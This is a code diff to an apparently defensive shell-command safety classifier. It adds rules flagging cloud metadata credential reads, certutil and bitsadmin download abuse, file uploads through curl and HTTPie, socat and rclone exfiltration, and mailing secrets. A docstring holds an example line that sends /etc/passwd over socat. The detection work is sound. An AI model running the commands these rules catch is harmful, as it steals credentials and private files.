@@ -6,10 +6,12 @@ from __future__ import annotations
 
 import re
 
+from aintern_ls.safety import system
 from aintern_ls.safety.context import (
     STDIN_FILE,
     STDIN_NONE,
     STDIN_OTHER,
+    STDIN_STATIC,
     Cmd,
 )
 from aintern_ls.safety.levels import C, D, M
@@ -28,6 +30,14 @@ _FETCH_WITH_VALUE = frozenset(
         --directory-prefix --cacert --cert --key -K --config --resolve --limit-rate
         """
     )
+)
+
+
+# Instance metadata endpoints that hand out the machine's cloud credentials.
+_METADATA_CREDS = re.compile(
+    r"(169\.254\.169\.254|metadata\.google\.internal|\[?fd00:ec2::254\]?|169\.254\.170\.2)"
+    r"\S*(security-credentials|service-accounts|identity|token|credentials)",
+    re.I,
 )
 
 
@@ -52,13 +62,17 @@ def _fetch(cmd: Cmd) -> None:
         )
         return
     if n == "certutil" and not any(
-        w.text.lower().startswith(("-urlcache", "/urlcache")) for w in cmd.args
+        w.text.lower().startswith(("-urlcache", "/urlcache", "-verifyctl", "/verifyctl"))
+        for w in cmd.args
     ):
         cmd.add(M, "unknown-command", "certutil changes certificates or decodes files")
         return
     cmd.info.network_fetch = True
+    if n == "bitsadmin" and re.search(r"/setnotifycmdline", " ".join(cmd.texts()), re.I):
+        cmd.add(C, "lolbin-exec", "bitsadmin runs a program when a download job finishes")
+        return
     if n in ("certutil", "bitsadmin") and re.search(
-        r"(urlcache|/transfer|/addfile|/download)", " ".join(cmd.texts()), re.I
+        r"(urlcache|verifyctl|/transfer|/addfile|/download)", " ".join(cmd.texts()), re.I
     ):
         cmd.add(
             C,
@@ -73,27 +87,40 @@ def _fetch(cmd: Cmd) -> None:
         if t in names(
             """
             -T --upload-file -F --form -d --data --data-binary --post-file --data-raw -InFile
-            -infile --data-urlencode --form-string --body-file --post-data -Body -body
+            -infile --data-urlencode --form-string --body-file --post-data -Body -body --json
             """
         ) and i + 1 < len(cmd.args):
             word = cmd.args[i + 1]
             val = word.text
             if t in ("-T", "--upload-file", "--post-file", "--body-file", "-InFile", "-infile"):
                 val = "@" + val
-        elif t.startswith(("--data-binary=", "--post-file=", "--upload-file=", "--post-data=")):
+            elif t == "--data-urlencode" and re.match(r"\A[\w.-]*@", val):
+                val = "@" + val.split("@", 1)[1]  # name@file sends the file's contents
+        elif t.startswith(
+            ("--data-binary=", "--post-file=", "--upload-file=", "--post-data=", "--body-file=")
+        ):
             val = t.split("=", 1)[1]
-            if t.startswith(("--post-file=", "--upload-file=")):
+            if t.startswith(("--post-file=", "--upload-file=", "--body-file=")):
                 val = "@" + val
         elif re.fullmatch(r"-[dFT].+", t):
             val = t[2:] if t[1] != "T" else "@" + t[2:]
         else:
             continue
         uploads.append((val.split("=", 1)[-1] if not val.startswith("@") else val, word.dynamic))
+    if n in ("http", "https", "xh", "xhs"):
+        # HTTPie: `@file` is the body, `field@file` / `field=@file` embed files.
+        for w in cmd.args:
+            if re.match(r"\A(?:@|[\w.-]+=?@)(?!\S*://)(\S+)", w.text):
+                uploads.append(("@" + w.text.split("@", 1)[1], w.dynamic))
+        if cmd.stdin.kind in ("file", "other") or cmd.stdin.secret:
+            uploads.append(("@-", False))
     sent_files = [v.lstrip("@<") for v, _ in uploads if v.startswith(("@", "<"))]
+    output = cmd.option_value("-o", "--output", "-O", "--output-document", "-OutFile")
     if any(
-        (w.dynamic and w.origin not in ("", "variable") and "://" in w.text) or "$(" in w.text
+        (w.dynamic and w.origin not in ("", "variable") and "://" in w.text)
+        or ("$(" in w.text and (not w.text.startswith("-") or "=" in w.text))
         for w in cmd.args
-        if not w.text.startswith("-")
+        if w is not output
     ):
         cmd.add(C, "exfiltration", f"{n} puts a command's output in the address it calls")
         return
@@ -111,6 +138,9 @@ def _fetch(cmd: Cmd) -> None:
         return
     out = cmd.option_value("-o", "--output", "-O", "--output-document", "-OutFile", "-outfile")
     urls = [w for w in cmd.operands(_FETCH_WITH_VALUE) if "://" in w.text or "." in w.text]
+    if any(_METADATA_CREDS.search(w.text) for w in cmd.args):
+        cmd.add(C, "credential-dump", f"{n} reads cloud credentials from the instance metadata")
+        return
     if out is not None and out.text not in ("-", "/dev/stdout"):
         cmd.scope.downloaded.add(out.text.rsplit("/", 1)[-1].rsplit("\\", 1)[-1])
         cmd.info.network_fetch = False
@@ -152,6 +182,9 @@ def _netcat(cmd: Cmd) -> None:
         else:
             cmd.add(M, "write", "openssl writes keys or files")
         return
+    if cmd.name == "socat" and _socat_sends_file(cmd):
+        cmd.add(C, "exfiltration", "socat sends a file to the network")
+        return
     if cmd.has("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or re.search(
         r"\b(exec|system):", text, re.I
     ):
@@ -167,13 +200,28 @@ def _netcat(cmd: Cmd) -> None:
     cmd.add(M, "network", f"{cmd.name} opens a network connection")
 
 
+_SOCAT_FILE = re.compile(r"\A(?:file|open|gopen):", re.I)
+_SOCAT_NET = re.compile(r"\A(?:tcp|tcp4|tcp6|udp|udp4|udp6|ssl|openssl|sctp)[\w-]*:", re.I)
+
+
+def _socat_sends_file(cmd: Cmd) -> bool:
+    """`socat -u FILE:/etc/passwd TCP:host:80`: a file address feeding a network address."""
+    addrs = [w.text for w in cmd.args if not w.text.startswith("-") or w.text == "-"]
+    if len(addrs) < 2:
+        return False
+    first, second = addrs[0], addrs[1]
+    if cmd.has("-U"):
+        first, second = second, first
+    return bool(_SOCAT_FILE.match(first) and _SOCAT_NET.match(second))
+
+
 def _remote(text: str) -> bool:
     return bool(re.match(r"^([\w.-]+@)?[\w.-]+:(?!//)|^\w+://", text)) and not re.match(
         r"^[a-zA-Z]:[\\/]", text
     )
 
 
-def _sensitive_source(text: str) -> bool:
+def sensitive_source(text: str) -> bool:
     """A home directory, a dotfile in it, or a system directory: what an attacker wants."""
     return bool(
         is_secret(text)
@@ -185,6 +233,13 @@ def _sensitive_source(text: str) -> bool:
 
 @handles("scp", "sftp", "rclone", "ftp", "lftp", "smbclient", "croc", "magic-wormhole", "wormhole")
 def _copy_remote(cmd: Cmd) -> None:
+    system.repl_tool(cmd)  # lftp -c '!cmd', smbclient -c '!cmd'
+    if cmd.stdin.kind == STDIN_STATIC and any(
+        sensitive_source(m.group(1)) or is_secret(m.group(1))
+        for m in re.finditer(r"(?:^|[\n;])\s*m?put\s+(?:-\w+\s+)*(\S+)", cmd.stdin.text)
+    ):
+        cmd.add(C, "exfiltration", f"{cmd.name} uploads home or system files (its script)")
+        return
     ops = cmd.operands(frozenset({"-P", "-i", "-o", "-F", "-J", "-c", "-l", "-S"}))
     if (any(is_secret(w.text) for w in ops) and len(ops) >= 2) or (
         cmd.name in ("croc", "wormhole", "magic-wormhole") and any(is_secret(w.text) for w in ops)
@@ -195,9 +250,18 @@ def _copy_remote(cmd: Cmd) -> None:
         cmd.name == "scp"
         and len(ops) >= 2
         and _remote(ops[-1].text)
-        and any(_sensitive_source(w.text) for w in ops[:-1])
+        and any(sensitive_source(w.text) for w in ops[:-1])
     ):
         cmd.add(C, "exfiltration", "copies home or system files to another machine")
+        return
+    if (
+        cmd.name == "rclone"
+        and len(ops) >= 3
+        and ops[0].text in ("copy", "sync", "move", "copyto", "moveto")
+        and _remote(ops[-1].text)
+        and any(sensitive_source(w.text) for w in ops[1:-1])
+    ):
+        cmd.add(C, "exfiltration", "copies home or system files to a remote")
         return
     if (
         cmd.name == "rclone"
@@ -256,3 +320,30 @@ def _ssh(cmd: Cmd) -> None:
             cmd.scope.include(cmd.scope.nested(rest[0].text, "bash", rest[0]))
         else:
             cmd.judge(list(rest), cmd.stdin)
+
+
+@handles("http.server", "SimpleHTTPServer")
+def _http_server(cmd: Cmd) -> None:
+    """`python3 -m http.server` serves a folder to the network; serving the root, a home or a
+    system folder publishes its files."""
+    folder = cmd.option_value("-d", "--directory")
+    if (folder is not None and sensitive_source(folder.text.rstrip("/") or "/")) or (
+        folder is not None and folder.text.rstrip("/") in ("", "/")
+    ):
+        cmd.add(C, "exfiltration", f"serves {folder.text} to the network", folder)
+        return
+    cmd.add(M, "network", "serves the current folder over HTTP")
+
+
+@handles("sendmail", "mutt", "mailx", "msmtp", "ssmtp", "swaks")
+def _mailer(cmd: Cmd) -> None:
+    """Mail programs send what they read: a file or a command's output is exfiltration."""
+    attach = cmd.option_value("-a", "--attach", "-A", "--attach-file")
+    if cmd.stdin.secret or (
+        attach is not None and (is_secret(attach.text) or sensitive_source(attach.text))
+    ):
+        cmd.add(C, "exfiltration", f"{cmd.name} mails private keys or credentials")
+    elif cmd.stdin.kind in (STDIN_FILE, STDIN_OTHER) or attach is not None:
+        cmd.add(C, "exfiltration", f"{cmd.name} mails a file or a command's output")
+    else:
+        cmd.add(M, "network", f"{cmd.name} sends mail")
